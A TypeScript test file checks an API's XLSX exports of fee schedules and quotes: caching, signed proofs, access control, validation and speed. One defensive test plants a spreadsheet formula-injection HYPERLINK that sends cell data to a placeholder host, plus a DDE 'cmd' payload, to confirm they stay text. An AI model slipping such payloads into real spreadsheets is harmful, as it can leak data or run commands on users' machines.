import type { InjectOptions } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminAuth, createTestApp, injectOk, type TestApp } from '../helpers/app.js';
import { exampleModel, withStaffingLines } from '../helpers/books.js';
import { engines } from '../helpers/database.js';
import { publishedFigures, workbookFigures, workbookReader } from '../helpers/live-workbook.js';
import { publishedProvider } from '../helpers/provider.js';
import { readWorkbook, XLSX } from '../helpers/xlsx.js';

// The live breakdown workbook through the API (docs/workbooks.md): a published schedule, a draft's
// quote and POST /v1/quotes as XLSX, their caching, who may have them, and text that looks like a
// formula staying text.

describe.each(engines)('live breakdown workbooks on %s', (engine) => {
  let testApp: TestApp;
  const inject = (options: InjectOptions) => testApp.app.inject(options);
  const ok = (options: InjectOptions, status: number) => injectOk(testApp.app, options, status);

  beforeAll(async () => {
    testApp = await createTestApp(engine);
  });
  afterAll(() => testApp.close());

  /** An organisation of its own with a home, a draft of the Wirral example and its published schedule. */
  const provider = (name: string) => publishedProvider(testApp.app, name);

  it('a published schedule: its figures, its proof on the About sheet, an ETag of its own and the same bytes every time', async () => {
    const { schedule } = await provider('Oxton Homes CIC');
    const response = await ok(
      { method: 'GET', url: `/v1/fee-schedules/${schedule.id}`, headers: { accept: XLSX } },
      200,
    );
    expect(response.headers['content-type']).toBe(XLSX);
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="fee-schedule-.*-v1\.xlsx"$/,
    );
    const etag = String(response.headers.etag);
    expect(etag).toMatch(/-xlsx"$/);
    const workbook = await readWorkbook(response.rawPayload);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
      'About',
      'Breakdown',
      'Model',
      'Staffing',
      'Property',
      'Running',
      'Central charges',
      'Related parties',
      'Enhancements',
    ]);
    // the cached results are the schedule's own figures
    expect(workbookFigures(workbookReader(workbook))).toEqual(publishedFigures(schedule.breakdown));
    // the About sheet names the schedule and carries its proof
    const proof = (await ok({ method: 'GET', url: `/v1/fee-schedules/${schedule.id}/proof` }, 200)).json();
    const about = new Map<string, unknown>();
    workbook.getWorksheet('About')!.eachRow((row) => {
      about.set(String(row.getCell(1).value), row.getCell(2).value);
    });
    expect(about.get('Fee schedule')).toBe(schedule.id);
    expect(about.get('Hash (SHA-256)')).toBe(proof.hash);
    expect(about.get('Signed by key')).toBe(proof.keyId);
    expect(about.get('Signature (Ed25519, base64)')).toBe(proof.signature);
    // conditional and reproducible
    const again = await ok({ method: 'GET', url: `/v1/fee-schedules/${schedule.id}?format=xlsx` }, 200);
    expect(again.rawPayload.equals(response.rawPayload)).toBe(true);
    const cached = await inject({
      method: 'GET',
      url: `/v1/fee-schedules/${schedule.id}`,
      headers: { accept: XLSX, 'if-none-match': etag },
    });
    expect(cached.statusCode).toBe(304);
    const json = await ok({ method: 'GET', url: `/v1/fee-schedules/${schedule.id}` }, 200);
    expect(json.headers.etag).not.toBe(etag);
  });

  it("a draft's quote: for the draft's own organisation, with the draft's version as its ETag", async () => {
    const { draft, schedule } = await provider('Birkenhead Homes CIC');
    const other = await provider('Other Homes CIC');
    const response = await ok(
      { method: 'GET', url: `/v1/cost-models/${draft.id}/quote?format=xlsx`, headers: other.finance },
      404,
    );
    expect(response.headers['content-type']).toMatch(/problem\+json/);
    const own = await provider('Third Homes CIC');
    const quoted = await ok(
      {
        method: 'GET',
        url: `/v1/cost-models/${own.draft.id}/quote`,
        headers: { ...own.finance, accept: XLSX },
      },
      200,
    );
    expect(quoted.headers.etag).toBe(`"${own.draft.version}"`);
    const figures = workbookFigures(workbookReader(await readWorkbook(quoted.rawPayload)));
    expect(figures.weeklyFeePerChild).toBe(schedule.weeklyFeePerChild);
    const byAdmin = await ok(
      { method: 'GET', url: `/v1/cost-models/${draft.id}/quote?format=xlsx`, headers: adminAuth },
      200,
    );
    expect(byAdmin.headers['content-type']).toBe(XLSX);
  });

  it('POST /v1/quotes as XLSX: a bad model is still a 422 naming its field, and text that looks like a formula stays text', async () => {
    const { finance } = await provider('Wallasey Homes CIC');
    const bad = exampleModel('wirral-four-bed-2026-27');
    (bad.surplus as Record<string, unknown>).rate = '0.5';
    const refused = await ok(
      { method: 'POST', url: '/v1/quotes?format=xlsx', headers: finance, payload: bad },
      422,
    );
    expect(refused.json().errors[0].pointer).toBe('/surplus/rate');

    const model = exampleModel('wirral-four-bed-2026-27');
    const hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
    (model.property as Record<string, unknown>[])[0]!.description = hostile;
    (model.staffing as Record<string, unknown>[])[0]!.role = '@SUM(1+1)*cmd|" /C calc"!A0';
    const response = await ok(
      { method: 'POST', url: '/v1/quotes', headers: { ...finance, accept: XLSX }, payload: model },
      200,
    );
    expect(response.headers['content-disposition']).toBe('attachment; filename="quote-2026-27.xlsx"');
    const workbook = await readWorkbook(response.rawPayload);
    const description = workbook.getWorksheet('Property')!.getCell('B2');
    expect(description.value).toBe(hostile); // a text cell, exactly the client's text
    expect(description.formula).toBeUndefined();
    const role = workbook.getWorksheet('Staffing')!.getCell('B2');
    expect(role.value).toBe('@SUM(1+1)*cmd|" /C calc"!A0');
    // every formula of the workbook is the service's own: none holds the client's text
    workbook.eachSheet((sheet) => {
      sheet.eachRow((row) => {
        row.eachCell((cell) => {
          if (cell.formula !== undefined) expect(cell.formula).not.toMatch(/HYPERLINK|cmd/);
        });
      });
    });
  });

  it('a model of 50 staffing lines comes back as a workbook in under a second', async () => {
    const { finance } = await provider('Large Homes CIC');
    const model = withStaffingLines(50);
    await ok({ method: 'POST', url: '/v1/quotes?format=xlsx', headers: finance, payload: model }, 200); // warm
    const started = performance.now();
    const response = await ok(
      { method: 'POST', url: '/v1/quotes?format=xlsx', headers: finance, payload: model },
      200,
    );
    const ms = performance.now() - started;
    expect(ms).toBeLessThan(1_000);
    const workbook = await readWorkbook(response.rawPayload);
    expect(workbook.getWorksheet('Staffing')!.getCell(51, 1).value).toBe('line-49');
  });
});
